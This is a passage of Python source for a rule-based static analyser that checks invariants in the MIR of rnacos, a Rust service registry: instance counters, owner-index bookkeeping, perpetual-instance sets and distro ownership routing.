                           (a[1] == 'Eq' and a[4] is True and k == 0) or (a[1] == 'Gt' and a[4] is False and k <= 0) or (a[1] == 'Ge' and a[4] is False and k <= 1):
                            ok = True
            ck.require(ok, 'R11b', '%s:remove-guarded-by-empty' % b.name, s.where(), 'a service can be dropped while it still has instances')
    r = ck.body(NA + 'remove_empty_service', 'R11b')
    if r:
        errs = [i for (i, j, st) in r.aggregates(r'std::result::Result$', 'Err')]
        cl = r.calls(re.escape(NA + 'clear_one_empty_service') + '$')
        ck.require(len(errs) >= 1 and len(cl) == 1, 'R11b', 'remove_empty_service:shape', r.where(), 'remove_empty_service lost its refusal branch')
        for s in cl:
            ok = any(a[0] == 'cmp' and cfg.strip_calls(r, a[2]).get('fields', [None])[-1:] == ['instance_size'] for a in cfg.guard_atoms(r, s.bb))
            ck.require(ok, 'R11b', 'remove_empty_service:guard', s.where(), 'console removal of a service is not guarded by instance_size')


def r11c(ck, fb):
    ck.rule('R11c', 'reverse map: NamingActor::update_instance inserts the instance key into client_instance_set[client_id] when the instance has '
                    'an owner (from_grpc or from_cluster, non-empty client id) and removes it from the replaced owner\'s set; remove_instance '
                    'removes it from the owner recorded on the removed instance; remove_client_instance takes the whole set')
    u = ck.body(NA + 'update_instance', 'R11c')
    if u:
        ins = [s for s in u.calls(r'HashSet::<T, S, A>::insert$')]
        cis = util.mut_calls_on_field(u, 'client_instance_set', r'HashMap::<K, V, S, A>::(get_mut|insert|entry)$')
        ck.require(len(ins) >= 1 and len(cis) >= 1, 'R11c', 'update_instance:records-owner', u.where(), 'the owner->instances map is not maintained on registration')
        for s in cis:
            if s.callee.endswith('insert') or s.callee.endswith('entry'):
                atoms = cfg.guard_atoms(u, s.bb)
                ok = any(a[0] == 'call' and (a[1] or '').endswith('is_empty') and a[2] is False for a in atoms)
                ck.require(ok, 'R11c', 'update_instance:owner-non-empty', s.where(), 'instances without a client id are recorded in the reverse map')
        # the recorded key is this instance's key under this instance's client id
        tk = Taint(u, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('InstanceKey::new_by_service_key'))
        ck.require(any(tk.op_tainted(s.args[1]) for s in ins), 'R11c', 'update_instance:records-this-key', u.where(), 'the key recorded for the owner is not the instance key')
        rm = [s for s in u.calls(r'HashSet::<T, S, A>::remove$')]
        ok = False
        for s in rm:
            for a in cfg.guard_atoms(u, s.bb):
                if a[0] == 'variant' and a[2] == 'Some':
                    ok = True
        t = Taint(u, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('Service::update_instance'))
        gm = [s for s in util.mut_calls_on_field(u, 'client_instance_set', r'HashMap::<K, V, S, A>::get_mut$') if t.op_tainted(s.args[1])]
        ck.require(ok and len(gm) == 1, 'R11c', 'update_instance:replaced-owner-forgets', u.where(), 'a replaced owner keeps the instance in its reverse set')
    r = ck.body(NA + 'remove_instance', 'R11c')
    if r:
        cs = r.calls(re.escape(NA + 'remove_client_instance_key') + '$')
        ck.require(len(cs) >= 1, 'R11c', 'remove_instance:forgets-owner', r.where(), 'a removed instance stays in its owner\'s reverse set')
        for s in cs:
            f = cfg.origin_fields(r, s.args[1])
            t = Taint(r, place_src=field_place_src('client_id'))
            ck.require(t.op_tainted(s.args[1]), 'R11c', 'remove_instance:owner-of-removed', s.where(), 'the reverse set that is updated is not that of the removed instance\'s client id')
    k = ck.body(NA + 'remove_client_instance_key', 'R11c')
    if k:
        ck.require(len(k.calls(r'HashSet::<T, S, A>::remove$')) == 1, 'R11c', 'remove_client_instance_key:removes', k.where(), 'key not removed from the set')
    c = ck.body(NA + 'remove_client_instance', 'R11c')
    if c:
        ck.require(len(util.mut_calls_on_field(c, 'client_instance_set', r'HashMap::<K, V, S, A>::remove$')) == 1, 'R11c', 'remove_client_instance:takes-set', c.where(),
                   'the closed client\'s set is not taken out of the reverse map')


def r11d(ck, fb):
    ck.rule('R11d', 'impl Service counter co-update: remove_instance: Some(old) => instance_size -= 1, healthy_instance_size -= 1 iff '
                    'old.healthy, perpetual_host_set.remove iff !old.ephemeral; update_instance new branch: instance_size += 1, healthy += 1 '
                    'iff instance.healthy; existing branch: healthy +/-1 under (!old.healthy && new.healthy)/(old.healthy && !new.healthy); '
                    'update_instance_healthy_invalid: -1 under healthy; update_perpetual_instance_healthy_valid: +1 under !healthy && !ephemeral; '
                    'no other function of the crate assigns the two counters')
    # who writes the counters
    writers = {}
    for b in fb.bodies.values():
        if '::tests::' in b.name:
            continue
        for (o, f, bb, st) in b.field_writes():
            if o.endswith('naming::service::Service') and f in ('instance_size', 'healthy_instance_size'):
                writers.setdefault(fb.root_of(b.name), []).append((f, bb, st, b))
    allowed = {SV + 'remove_instance', SV + 'update_instance', SV + 'update_instance_healthy_invalid', SV + 'update_perpetual_instance_healthy_valid'}
    for w in sorted(writers):
        ck.require(w in allowed, 'R11d', 'counter-writer:%s' % w, writers[w][0][3].where(writers[w][0][1]), '%s writes the instance counters outside the four Service mutators' % w)
    ck.floor('R11d', 'functions writing the counters', len(writers), 4)
    rm = ck.body(SV + 'remove_instance', 'R11d')
    if rm:
        isz = counter_writes(rm, 'instance_size')
        hsz = counter_writes(rm, 'healthy_instance_size')
        ck.require(len(isz) == 1 and delta_of(rm, isz[0][0], isz[0][1], 'instance_size') == -1, 'R11d', 'remove_instance:instance_size-=1', rm.where(), 'instance_size is not decremented by one on removal')
        ck.require(len(hsz) == 1 and delta_of(rm, hsz[0][0], hsz[0][1], 'healthy_instance_size') == -1, 'R11d', 'remove_instance:healthy-=1', rm.where(), 'healthy_instance_size is not decremented by one')
        for (bb, st) in isz:
            ok = any(a[0] == 'variant' and a[2] == 'Some' for a in cfg.guard_atoms(rm, bb))
            ck.require(ok, 'R11d', 'remove_instance:size-under-Some', rm.where(bb), 'instance_size changes although nothing was removed')
        for (bb, st) in hsz:
            ck.require(cond_on(rm, bb, field_cond('healthy', True)), 'R11d', 'remove_instance:healthy-under-old.healthy', rm.where(bb),
                       'healthy_instance_size is decremented for an instance that was not healthy (or not at all conditions)')
            # and the decrement is the only thing under that condition: the false edge must not reach it
        hs = util.mut_calls_on_field(rm, 'perpetual_host_set', r'HashSet::<T, S, A>::remove$')
        ck.require(len(hs) == 1 and cond_on(rm, hs[0].bb, field_cond('ephemeral', False)), 'R11d', 'remove_instance:perpetual-under-!ephemeral', rm.where(),
                   'perpetual_host_set is not cleared exactly for non-ephemeral instances')
        # R11k: ... on EVERY way a non-ephemeral instance leaves the map: from the entry no path reaches the return that passes the Some edge of
        # instances.remove without passing perpetual_host_set.remove, except through a test that says the removed instance was ephemeral.
        # (A raft-applied RemoveInstance and the log replay carry no client id: a clear that sits under `if let Some(client_id)` misses them.)
        ck.rule('R11k', '"the set of persistent instances equals the non-ephemeral ones": whenever Service::remove_instance takes an instance out of the map, '
                        'perpetual_host_set.remove is passed on every path from the function entry through the removal to the return, unless a test of '
                        'the removed instance\'s ephemeral flag says it was ephemeral - for every caller: with a client id (HTTP / gRPC / console), '
                        'and without one (the raft-applied RemoveInstance on the other nodes, the log replay after a restart)')
        rmv0 = util.mut_calls_on_field(rm, 'instances', r'HashMap::<K, V, S, A>::remove$')
        if hs and rmv0:
            hsb = {x.bb for x in hs}
            eph_true = set()
            for (s0, d0, lab0, t0) in cfg.switch_edges(rm):
                dd = cfg.describe_operand(rm, t0['discr'])
                neg = False
                while dd['k'] == 'un' and dd['op'] == 'Not':
                    neg = not neg
                    dd = cfg.describe_operand(rm, dd['a'])
                if dd['k'] == 'place' and dd['fields'][-1:] == ['ephemeral']:
                    pol = cfg.edge_polarity(t0, lab0)
                    if pol is not None and (pol != neg):
                        eph_true.add((s0, d0, lab0))
            before = cfg.reach_from(rm, [0], blocked_blocks=hsb)
            leak = []
            for x in rmv0:
                if x.bb in before:
                    after = cfg.reach_from(rm, [x.bb], blocked_blocks=hsb, blocked_edges=eph_true)
                    # only the Some edge matters: a None answer means nothing was stored
                    some = util.option_edges(rm, [x], 'Some')
                    after = set()
                    for (s0, d0, lab0) in some:
                        after |= cfg.reach_from(rm, [d0], blocked_blocks=hsb, blocked_edges=eph_true)
                    leak += [r for r in rm.return_blocks() if r in after]
            ck.require(not leak, 'R11k', 'remove_instance:perpetual-set-follows-every-removal', rm.where(),
                       'remove_instance can take a persistent instance out of the map and return without clearing perpetual_host_set (a caller without a '
                       'client id - the raft-applied RemoveInstance, the replay - does not pass the clear): the address stays in the persistent set '
                       'with no instance, and an ephemeral re-registration of it is counted as persistent', 'cleared on every path of a non-ephemeral removal')
        # the healthy-true edge must reach the decrement (not skipped)
        rmv = util.mut_calls_on_field(rm, 'instances', r'HashMap::<K, V, S, A>::remove$')
        ck.require(len(rmv) == 1, 'R11d', 'remove_instance:single-removal', rm.where(), 'instances.remove is not called exactly once')
    up = ck.body(SV + 'update_instance', 'R11d')
    if up:
        isz = counter_writes(up, 'instance_size')
        ck.require(len(isz) == 1 and delta_of(up, isz[0][0], isz[0][1], 'instance_size') == 1, 'R11d', 'update_instance:instance_size+=1', up.where(), 'instance_size is not incremented exactly once (new instance)')
        for (bb, st) in isz:
            ok = any((a[0] == 'variant' and a[2] == 'None') or a[0] == 'notvariant' for a in cfg.guard_atoms(up, bb))
            ck.require(ok, 'R11d', 'update_instance:size-only-when-new', up.where(bb), 'instance_size is incremented for a re-registration of an existing address')
        hsz = counter_writes(up, 'healthy_instance_size')
        deltas = sorted((delta_of(up, bb, st, 'healthy_instance_size') or 0) for (bb, st) in hsz)
        ck.require(deltas == [-1, 1, 1], 'R11d', 'update_instance:healthy-deltas', up.where(), 'healthy_instance_size updates in update_instance are %s (expected one -1 and two +1)' % deltas)
        for (bb, st) in hsz:
            d = delta_of(up, bb, st, 'healthy_instance_size')
            atoms = cfg.guard_atoms(up, bb)
            hs = [(a[1], a[2], cfg.fmt_desc(a[3]['root']) if a[3].get('root') else '') for a in atoms if a[0] == 'field' and a[1][-1:] == ['healthy']]
            is_new = any((a[0] == 'variant' and a[2] == 'None') or a[0] == 'notvariant' for a in atoms)
            if is_new:
                ck.require(d == 1 and any(p is True for (_, p, _) in hs), 'R11d', 'update_instance:new-healthy', up.where(bb), 'new-instance healthy count is not +1 under instance.healthy')
            elif d == 1:
                ck.require(sorted(p for (_, p, _) in hs) == [False, True], 'R11d', 'update_instance:flip-to-healthy', up.where(bb), '+1 is not under (!old.healthy && new.healthy): %s' % hs)
            elif d == -1:
                ck.require(sorted(p for (_, p, _) in hs)[-2:] == [False, True] or sorted(p for (_, p, _) in hs) == [False, False, True, True][:len(hs)], 'R11d', 'update_instance:flip-to-unhealthy', up.where(bb), '-1 is not under (old.healthy && !new.healthy): %s' % hs)
        # perpetual set follows the ephemeral transition
        pi = util.mut_calls_on_field(up, 'perpetual_host_set', r'HashSet::<T, S, A>::insert$')
        pr = util.mut_calls_on_field(up, 'perpetual_host_set', r'HashSet::<T, S, A>::remove$')
        ck.require(len(pi) == 1 and len(pr) == 1, 'R11d', 'update_instance:perpetual-set', up.where(), 'perpetual_host_set is not maintained on ephemeral<->persistent transitions')
        ins = util.mut_calls_on_field(up, 'instances', r'HashMap::<K, V, S, A>::insert$')
        ck.require(len(ins) == 1 and not [a for a in cfg.guard_atoms(up, ins[0].bb) if a[0] != 'other'], 'R11d', 'update_instance:stores-unconditionally', up.where(), 'the instance is stored only conditionally')
    iv = ck.body(SV + 'update_instance_healthy_invalid', 'R11d')
    if iv:
        hsz = counter_writes(iv, 'healthy_instance_size')
        ck.require(len(hsz) == 1 and delta_of(iv, hsz[0][0], hsz[0][1], 'h') == -1 and cond_on(iv, hsz[0][0], field_cond('healthy', True)), 'R11d',
                   'healthy_invalid:-1-under-healthy', iv.where(), 'marking an instance unhealthy does not decrement healthy_instance_size exactly when it was healthy')
        ins = util.mut_calls_on_field(iv, 'instances', r'HashMap::<K, V, S, A>::insert$')
        rmv = util.mut_calls_on_field(iv, 'instances', r'HashMap::<K, V, S, A>::remove$')
        # an instance taken out of the map (remove) is put back on every path; a rewrite that never takes it out has nothing to put back
        lost = []
        for (s0, d0, lab0) in util.option_edges(iv, rmv, 'Some'):
            if not cfg.must_pass_before_return(iv, d0, {x.bb for x in ins}):
                lost.append(d0)
        ck.require(not lost, 'R11d', 'healthy_invalid:reinserts', iv.where(lost[0]) if lost else iv.where(), 'the instance taken out of the map is not put back on every path')
    pv = ck.body(SV + 'update_perpetual_instance_healthy_valid', 'R11d')
    if pv:
        hsz = counter_writes(pv, 'healthy_instance_size')
        ok = len(hsz) == 1 and delta_of(pv, hsz[0][0], hsz[0][1], 'h') == 1 and cond_on(pv, hsz[0][0], field_cond('healthy', False)) and cond_on(pv, hsz[0][0], field_cond('ephemeral', False))
        ck.require(ok, 'R11d', 'perpetual_valid:+1-under-!healthy&&!ephemeral', pv.where(), 'marking a persistent instance healthy does not increment exactly when it was unhealthy and persistent')
        pins = util.mut_calls_on_field(pv, 'instances', r'HashMap::<K, V, S, A>::insert$')
        prmv = util.mut_calls_on_field(pv, 'instances', r'HashMap::<K, V, S, A>::remove$')
        plost = [d0 for (s0, d0, lab0) in util.option_edges(pv, prmv, 'Some') if not cfg.must_pass_before_return(pv, d0, {x.bb for x in pins})]
        ck.require(not plost, 'R11d', 'perpetual_valid:reinserts', pv.where(plost[0]) if plost else pv.where(), 'the instance taken out of the map is not put back on every path')


SINK_LOCALS = {'mark_add_perpetual_instance', 'mark_remove_perpetual_instance', 'replace_old_client_id', 'perpetual_changed'}


def _instance_fields_of_desc(b, d, inst, depth=0):
    """fields of local `inst` that a discriminant / operand description reads"""
    out = set()
    if depth > 5:
        return out
    k = d['k']
    if k == 'place':
        r = d['root']
        if r.get('k') == 'arg' and r.get('l') == inst and d['fields']:
            out.add(d['fields'][0])
        elif r.get('k') == 'call':
            out |= _instance_fields_of_desc(b, r, inst, depth + 1)
    elif k == 'call':
        for a in d['term']['args']:
            out |= _instance_fields_of_desc(b, cfg.describe_operand(b, a), inst, depth + 1)
    elif k == 'bin':
        for a in (d['a'], d['b']):
            out |= _instance_fields_of_desc(b, cfg.describe_operand(b, a), inst, depth + 1)
    elif k == 'un':
        out |= _instance_fields_of_desc(b, cfg.describe_operand(b, d['a']), inst, depth + 1)
    return out


def r11e(ck, fb):
    ck.rule('R11e', 'decisions use the final value: in Service::update_instance the bookkeeping decisions (locals mark_add_perpetual_instance, '
                    'mark_remove_perpetual_instance, replace_old_client_id, perpetual_changed) are control- or data-dependent only on fields of the '
                    'incoming `instance` that are not written (assignment or &mut borrow) later in the same call')
    up = ck.body(SV + 'update_instance', 'R11e')
    if not up:
        return
    ls = [l for l in range(1, up.argc + 1) if up.local_name(l) == 'instance']
    ck.require(len(ls) >= 1, 'R11e', 'update_instance:instance-param', up.where(), 'parameter `instance` not found')
    if len(ls) != 1:
        return
    inst = ls[0]
    reads, writes = util.field_accesses_of_local(up, inst)
    ck.floor('R11e', 'writes to fields of the incoming instance', len(writes), 8)
    sinks = [l for l in range(len(up.locals)) if up.local_name(l) in SINK_LOCALS]
    ck.floor('R11e', 'decision locals', len(sinks), 4)
    n = 0
    bad = {}
    from rn.facts import rv_operands, op_place, pl_local, pl_proj

    def deps_of_def(kind, bb, node, depth, seen):
        """(field of instance, block where read) the value defined here depends on, by control (guarding switches) or data"""
        deps = []
        for (src, dst, lab, term) in cfg.dominating_edges(up, bb):
            d = cfg.describe_operand(up, term['discr'])
            while d['k'] == 'un':
                d = cfg.describe_operand(up, d['a'])
            for f in _instance_fields_of_desc(up, d, inst):
                deps.append((f, src))
        if kind == 'stmt':
            for o in rv_operands(node['rv']):
                for f in _instance_fields_of_desc(up, cfg.describe_operand(up, o), inst):
                    deps.append((f, bb))
                p = op_place(o)
                if p is not None and not pl_proj(p) and depth < 4:
                    t = pl_local(p)
                    if t not in seen and len(up.defs.get(t, [])) > 1 and not up.local_name(t):
                        seen.add(t)
                        for (k2, b2, j2, n2) in up.defs.get(t, []):
                            deps += deps_of_def(k2, b2, n2, depth + 1, seen)
        return deps
    for l in sinks:
        for kind, bb, j, node in up.defs.get(l, []):
            n += 1
            for (f, rb) in deps_of_def(kind, bb, node, 0, set()):
                for (g, wb, wk) in writes:
                    if g == f and wb != rb and wb in cfg.reach_from(up, [rb]):
                        bad.setdefault((up.local_name(l), f), (rb, wb))
    for (nm, f), (rb, wb) in sorted(bad.items()):
        ck.bad('R11e', 'update_instance:%s:stale-%s' % (nm, f), up.where(rb),
               'the decision `%s` depends on instance.%s as read at line %s, but instance.%s is overwritten later in the same call (line %s): the '
               'bookkeeping follows a value that is not the one finally stored' % (nm, f, up.blocks[rb]['t'].get('ln'), f, up.blocks[wb]['t'].get('ln')))
    if not bad:
        ck.ok('R11e', 'update_instance:decisions-use-final-values', up.where(), '%d decision assignments examined' % n)


def r11f(ck, fb):
    ck.rule('R11f', 'every service is listed exactly once across the pages of a listing without a namespace filter: the same paging rule as R09j for the '
                    'sibling index (ServiceIndex::query_service_page takes the remaining offset, NamespaceIndex::query_service_page reduces it by '
                    'each namespace\'s total)')
    from rules.c09 import paging_offset_rule
    paging_offset_rule(ck, fb, 'R11f', 'rnacos::naming::service_index::NamespaceIndex::query_service_page',
                       r'service_index::ServiceIndex::query_service_page$', r'ServiceQueryParam', 'service-listing')


def r11g(ck, fb, R='R11g'):
    ck.rule(R, 'owner index is complete: NamingActor::update_instance records the instance key under the instance\'s client id whenever the instance '
               'has an owner - (from_grpc || is_from_cluster()) && !client_id.is_empty() - whatever else is true of the request (new or known '
               'address, same or replaced owner, outcome of the service update); the only way around it is the missing service. Decided by '
               'walking the function under each of the 8 assignments of the three owner conditions with every other condition free. An address '
               'first registered over HTTP and then by a connection is otherwise never removed when the connection ends')
    from rn import walk
    u = ck.body(NA + 'update_instance', R)
    if not u:
        return
    tk = Taint(u, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('InstanceKey::new_by_service_key'))
    sinks = [s for s in u.calls(r'HashSet::<T, S, A>::insert$') if len(s.args) > 1 and tk.op_tainted(s.args[1])]
    ck.floor(R, 'owner-set inserts of the instance key', len(sinks), 1)
    look = util.mut_calls_on_field(u, 'service_map', r'HashMap::<K, V, S, A>::(get_mut|get)$')
    esc = util.option_edges(u, look, 'None')

    def classify(d, term):
        d = cfg.strip_calls(u, d)
        if d['k'] == 'place' and d['fields'][-1:] == ['from_grpc']:
            return ('bool', 'grpc')
        if d['k'] == 'call':
            nm = cfg.callee_name(d['term']) or ''
            if nm.endswith('Instance::is_from_cluster'):
                return ('bool', 'cluster')
            if nm.endswith('::is_empty') and cfg.origin_fields(u, d['term']['args'][0])[-1:] == ['client_id'] or \
                    nm.endswith('::is_empty') and 'client_id' in cfg.fmt_desc(cfg.strip_calls(u, cfg.describe_operand(u, d['term']['args'][0]))):
                return ('bool', 'empty')
        return None
    def call_name(t):
        if 'place' in t:
            from rn.facts import pl_fields
            return 'grpc' if pl_fields(t['place'])[-1:] == ['from_grpc'] else None
        c = classify({'k': 'call', 'term': t}, None)
        return c[1] if c else None
    seen = set()
    for s1 in u.sites:
        nm = s1.callee or ''
        if nm.endswith('Instance::is_from_cluster'):
            seen.add('cluster')
        if nm.endswith('::is_empty') and call_name(s1.term) == 'empty':
            seen.add('empty')
    if 'from_grpc' in util.read_fields(u):
        seen.add('grpc')
    if not ck.require(seen == {'grpc', 'cluster', 'empty'}, R, 'update_instance:owner-conditions-tested', u.where(),
                      'update_instance does not look at all of from_grpc / is_from_cluster() / client_id.is_empty() (found %s): the owner index cannot be '
                      'decided' % sorted(seen)):
        return
    via = {s.bb for s in sinks}
    for grpc in (False, True):
        for cluster in (False, True):
            for empty in (False, True):
                env = {'grpc': grpc, 'cluster': cluster, 'empty': empty}
                owner = (grpc or cluster) and not empty
                name = 'grpc=%d,cluster=%d,empty=%d' % (grpc, cluster, empty)
                if owner:
                    out = walk.escapes_under(u, classify, env, via, esc, call_name)
                    ck.require(not out, R, 'update_instance:owner-recorded[%s]' % name, u.where(out[0]) if out else u.where(),
                               'an instance with an owner (%s) can pass through update_instance without being recorded in client_instance_set[client_id]: '
                               'when that connection / node goes away remove_client_instance does not find it and it is served for ever' % name,
                               'recorded on every path')
                else:
                    r, _fl = walk.table_walk(u, classify, env, call_name)
                    hit = [s for s in sinks if s.bb in r]
                    ck.require(not hit, R, 'update_instance:no-owner-not-recorded[%s]' % name, hit[0].where() if hit else u.where(),
                               'an instance without an owner (%s) is recorded in the owner index' % name, 'not recorded')


def r11h(ck, fb, R='R11h'):
    ck.rule(R, 'health flips are counted where they happen: every method of Service that stores an instance (instances.insert) after assigning its '
               '`healthy` field (a flip made on a clone of the stored instance) also writes healthy_instance_size in the same method. A flip made '
               'directly on the stored copy - on a take-over, a sync, a probe result - otherwise leaves the reported healthy count behind the '
               'instances that are returned, for good')
    n = 0
    for b in fb.bodies.values():
        if not b.name.startswith(SV) or b.parent or '::tests::' in b.name:
            continue
        hw = [(bb, st) for (o, f, bb, st) in b.field_writes() if f == 'healthy' and o.endswith('naming::model::Instance')]
        ins = util.mut_calls_on_field(b, 'instances', r'HashMap::<K, V, S, A>::insert$')
        if not hw or not ins:
            continue
        n += 1
        ck.analysed(b)
        cw = [(bb, st) for (o, f, bb, st) in b.field_writes() if f == 'healthy_instance_size']
        ck.require(bool(cw), R, '%s:flip-is-counted' % b.name.split('::')[-1], b.where(hw[0][0]),
                   '%s sets the healthy flag of an instance it stores and never touches healthy_instance_size: the healthy count reported for the '
                   'service differs from the number of healthy instances returned from then on' % b.name, 'counter written')
    ck.floor(R, 'Service methods that flip and store', n, 2)


def r11i(ck, fb, R='R11i'):
    ck.rule(R, 'an instance is filed under the client it belongs to, and only while it does: (a) wherever naming code makes a stored instance local '
               '(assigns the literal 0 to from_cluster: ownership by range in NamingActor::update_instance, take-over in '
               'Service::do_refresh_process_range) it also assigns client_id in the same function - the synthetic id "<node>_G" of the old owner '
               'must not stay on an instance this node now expires by its own clock, whose removal in Service::time_check never visits the owner '
               'index; the take-over hands the released ids back and NamingActor::refresh_process_range removes them from client_instance_set; '
               '(b) NamingActor::update_instance files the key under the incoming client id before Service::update_instance may decide to keep '
               'the previous owner (HTTP copy of a gRPC-registered address): afterwards it compares the stored instance\'s client_id with the '
               'incoming one and takes the key out of the incoming client\'s set when they differ')
    n = 0
    for b in fb.bodies.values():
        if not (b.name.startswith('rnacos::naming::') or b.name.startswith('<rnacos::naming::')) or '::tests::' in b.name or 'probe' in b.name or 'seeded_demo' in b.name:
            continue
        z = []
        for (o, f, bb, st) in b.field_writes():
            if f == 'from_cluster' and o.endswith('naming::model::Instance') and st['rv']['k'] == 'use' and 'c' in st['rv']['op'] and str(st['rv']['op']['c'].get('v')) == '0':
                z.append(bb)
        if not z or b.name.endswith('::from_do') or '::new' in b.name.split('::')[-1] or 'Default' in b.name:
            continue
        n += 1
        ck.analysed(b)
        cw = [bb for (o, f, bb, st) in b.field_writes() if f == 'client_id' and o.endswith('naming::model::Instance')]
        ck.require(bool(cw), R, '%s:local-instance-has-no-foreign-client' % fb.root_of(b.name).split('::')[-1], b.where(z[0]),
                   '%s makes a stored instance local (from_cluster = 0) and leaves its client_id: the instance stays filed under the old owner\'s client '
                   '("2_G -> 10.0.0.7:8080"), its time-out removal does not clear that entry (the index lists an instance that does not exist), and '
                   'a later RemoveClientFromCluster for the old owner removes an instance this node owns' % fb.root_of(b.name), 'client_id assigned too')
    ck.floor(R, 'functions that make an instance local', n, 2)
    rp = ck.body(NA + 'refresh_process_range', R)
    if rp:
        reg = util.region(fb, rp)
        rel = [s for x in reg for s in x.calls(re.escape(NA + 'remove_client_instance_key') + '$')] + \
              [s for x in reg for s in util.mut_calls_on_field(x, 'client_instance_set', r'HashMap::<K, V, S, A>::(get_mut|remove|entry)$')]
        ck.require(bool(rel), R, 'refresh_process_range:releases-owner-index', rp.where(),
                   'a take-over never touches client_instance_set: the taken-over instances stay listed for the old owner\'s client')
    u = ck.body(NA + 'update_instance', R)
    if u:
        tk = Taint(u, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('InstanceKey::new_by_service_key'))
        tr = Taint(u, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('Service::update_instance'))
        ok = False
        for s in u.calls(r'HashSet::<T, S, A>::remove$'):
            if len(s.args) < 2 or not tk.op_tainted(s.args[1]):
                continue
            atoms = cfg.guard_atoms(u, s.bb)
            # the set that is corrected is found by a key that does not come from Service::update_instance's answer (= the incoming client id) ...
            gm = [g for g in util.mut_calls_on_field(u, 'client_instance_set', r'HashMap::<K, V, S, A>::get_mut$')
                  if cfg.dominates_blocks(u, {g.bb}, s.bb) and not tr.op_tainted(g.args[1])]
            # ... under a comparison that involves a client_id
            def about_client(a):
                if a[0] == 'call' and re.search(r'::(ne|eq)$', a[1] or ''):
                    return any(cfg.origin_fields(u, x)[-1:] == ['client_id'] for x in a[3]['args'])
                return a[0] == 'cmp' and 'client_id' in cfg.fmt_atom(a)
            cmpc = [a for a in atoms if about_client(a)]
            if gm and cmpc:
                ok = True
        ck.require(ok, R, 'update_instance:filed-under-the-stored-owner', u.where(),
                   'after Service::update_instance kept the previous owner of an address (HTTP copy of a gRPC-registered instance) the key stays in the '
                   'incoming client\'s set: the index lists for "2_G" an instance that belongs to "1_7"', 'corrected when the stored client_id differs')


def r11j(ck, fb, R='R11j'):
    ck.rule(R, 'a replaced owner forgets the address, whoever replaces it: after Service::update_instance reported a replaced owner (second element of '
               'its answer is Some) every path of NamingActor::update_instance to the return takes the key out of that owner\'s set; the only ways '
               'around are "no owner was replaced", the early return for UpdateOtherClusterMetaData and a missing set. A clean-up that is tied to a '
               'property of the NEW registration (it has a client id, it is a gRPC one) leaves the key with the old connection when an HTTP / console '
               'update or a raft entry takes the address over')
    u = ck.body(NA + 'update_instance', R)
    if not u:
        return
    su = u.calls(r'Service::update_instance$')
    if not ck.require(len(su) == 1, R, 'update_instance:calls-service', u.where(), 'NamingActor::update_instance does not call Service::update_instance exactly once'):
        return
    tr = Taint(u, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('Service::update_instance'))
    tk = Taint(u, call_src=lambda t: (t.get('f') or {}).get('d', '').endswith('InstanceKey::new_by_service_key'))
    sinks = []
    for s in u.calls(r'HashSet::<T, S, A>::remove$'):
        if len(s.args) < 2 or not tk.op_tainted(s.args[1]):
            continue
        gm = [g for g in util.mut_calls_on_field(u, 'client_instance_set', r'HashMap::<K, V, S, A>::get_mut$')
              if cfg.dominates_blocks(u, {g.bb}, s.bb) and tr.op_tainted(g.args[1])]
        if gm:
            sinks.append(s)
    ck.floor(R, 'removals from the replaced owner\'s set', len(sinks), 1)
    esc = set()
    some_dst = []
    for (s0, d0, lab0, t0) in cfg.switch_edges(u):
        desc = cfg.describe_operand(u, t0['discr'])
        if desc['k'] != 'discr':
            continue
        pd = cfg.describe_operand(u, {'cp': desc['pl']})
        names = dict((v, n) for v, n in (desc.get('variants') or []))
        tested = [x[0] for x in t0['targets']]
        vs = [n for v, n in (desc.get('variants') or []) if v not in tested] if lab0[1] == 'otherwise' else [names.get(lab0[1], lab0[1])]
        txt = cfg.fmt_desc(pd)
        if 'Service::update_instance).1' in txt:
            if vs == ['None']:
                esc.add((s0, d0, lab0))
            elif vs == ['Some']:
                some_dst.append(d0)
        elif 'Service::update_instance).0' in txt and vs == ['UpdateOtherClusterMetaData']:
            esc.add((s0, d0, lab0))
    look = [g for g in util.mut_calls_on_field(u, 'client_instance_set', r'HashMap::<K, V, S, A>::get_mut$') if tr.op_tainted(g.args[1])]
    esc |= set(util.option_edges(u, look, 'None'))
    start = u.blocks[su[0].bb]['t'].get('t')
    free = cfg.reach_from(u, [start], blocked_blocks={s.bb for s in sinks}, blocked_edges=esc)
    leak = [r for r in u.return_blocks() if r in free]
    ck.require(bool(some_dst) and not leak, R, 'update_instance:replaced-owner-always-forgets', u.where(leak[0]) if leak else u.where(),
               'after Service::update_instance reported a replaced owner the function can return without taking the key out of that owner\'s set: the '
               'address stays recorded for a connection it no longer belongs to (QueryClientInstanceCount counts it there), also after the instance '
               'is gone', 'every path with a replaced owner reaches the removal')
