"""C14 Distro ownership: each service has exactly one owner and routing agrees."""
import re
from rn import cfg, util
from rn.flow import Taint, field_place_src
from rn.tables import check_table
from rn.absint import Ref, SymObj, BV

NM = 'rnacos::naming::cluster::node_manage::'
INM = NM + 'InnerNodeManage::'
PR = 'rnacos::naming::cluster::model::ProcessRange::'
NA = 'rnacos::naming::core::NamingActor::'


def run(ck, fb):
    ck.explanation = (
        'Decides necessary conditions of "one owner per service and routing agrees": (a) the two operands of ProcessRange::new in '
        'get_current_process_range (position, modulus) are computed from the same population - the nodes passing is_valid() - as '
        'NodeManage::route_addr uses (position and length of the Valid-filtered node list); neither uses the unfiltered node index; '
        '(b) route_addr and the owner test hash the key with the same hasher (DefaultHasher, Hash::hash, finish); (c) '
        'ProcessRange::is_range == len < 2 || hash % len == index (exhaustive table over small len/index/hash); (d) every status '
        'change / node-list change refreshes the range (check_node_status, update_nodes call update_process_range) and a changed range '
        'is sent to the naming actor; (e) the naming actor takes ownership of non-gRPC writes only inside its range.')
    ck.undecided = 'Does not enumerate cluster views by execution; agreement of two nodes\' views is assumed (same node list, same liveness).'
    ck.rule('R14a', 'same population: in get_current_process_range both ProcessRange::new operands are tainted by an iterator chain filtered with '
                    'ClusterInnerNode::is_valid, the position is not ClusterInnerNode.index alone, and NodeManage::route_addr takes position '
                    '(hash % nodes.len()) and length from get_all_valid_nodes (status == Valid)')
    g = ck.body(INM + 'get_current_process_range', 'R14a')
    if g:
        news = [s for s in g.calls(re.escape(PR + 'new') + '$')]
        ck.floor('R14a', 'ProcessRange::new sites', len(news), 2)
        tree = fb.tree(INM + 'get_current_process_range')
        # closures that call is_valid
